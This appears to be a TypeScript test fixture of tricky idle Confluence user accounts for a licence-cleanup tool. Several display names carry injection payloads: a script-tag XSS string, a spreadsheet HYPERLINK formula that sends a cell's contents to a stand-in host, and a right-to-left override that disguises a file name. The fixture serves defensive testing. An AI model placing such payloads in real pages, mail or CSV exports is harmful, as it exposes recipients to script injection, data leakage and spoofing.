// Delicate users: really idle and fair to act upon, but only by who handles names, mail, licences and display text with care.
import { type CastMember, describeMember } from './cast.ts';

const LICENSED = 'confluence-users';

export const DELICATE: readonly CastMember[] = [
  {
    trap: 'idle user with a plus',
    username: 'plus+idle',
    why: 'decoded as a form, this name becomes that of somebody who logged in today',
  },
  {
    trap: 'idle user with a percent sign',
    username: 'percent%20idle',
    why: 'decoded twice, this name becomes that of somebody who logged in today',
  },
  {
    trap: 'idle user with an umlaut',
    username: 'jörg.groß',
    why: 'stripped of its marks, this name becomes that of somebody who logged in today',
  },
  {
    trap: 'idle user with an apostrophe',
    username: "d'angelo",
    why: 'breaks statements and attributes that are put together by hand',
  },
  {
    trap: 'idle user with a slash',
    username: 'emea/idle',
    why: 'no write call can carry this name in its path: the change is not possible by REST',
  },
  {
    trap: 'licence granted by two groups',
    username: 'two.licences.idle',
    why: 'loses the licence only when removed from both confluence-users and all-staff',
    groups: [LICENSED, 'all-staff'],
  },
  {
    trap: 'licence granted by a nested group only',
    username: 'nested.licence.idle',
    why: 'licensed because subsidiary-staff lies inside all-staff; no direct member of either licence group',
    groups: ['subsidiary-staff'],
  },
  {
    trap: 'e-mail missing',
    username: 'no.email',
    why: 'idle, but the directory has no e-mail: no criterion on mail domains may select this user',
    email: null,
  },
  {
    trap: 'idle member of a group with a slash',
    username: 'slash.group.idle',
    why: 'membership of partners/emea can be read, but no path can carry the group name of a write',
    groups: [LICENSED, 'partners/emea'],
  },
  {
    trap: 'display name with markup',
    username: 'show.markup',
    why: 'must arrive as text in page, mail and report',
    displayName: '<script>alert("name")</script> & <b>Bold</b>',
  },
  {
    trap: 'display name as a spreadsheet formula',
    username: 'show.formula',
    why: 'must not be a formula in a CSV file',
    displayName: '=HYPERLINK("http://example.net/?x="&A1,"Invoice")',
  },
  {
    trap: 'display name from right to left',
    username: 'show.rtl',
    why: 'carries marks that turn the direction of the text around it',
    displayName: 'محمد \u202Ecod.tropeR\u202C الحسن',
  },
  {
    trap: 'display name of 255 characters',
    username: 'show.long',
    why: 'as long as the directory allows',
    displayName: 'Wolfeschlegelsteinhausenbergerdorff '.repeat(8).slice(0, 254).concat('x'),
  },
  {
    trap: 'display name with line break and separators',
    username: 'show.break',
    why: 'must stay one cell and one line',
    displayName: 'Line\r\nBreak;"quoted",comma\ttab',
  },
].map(describeMember);
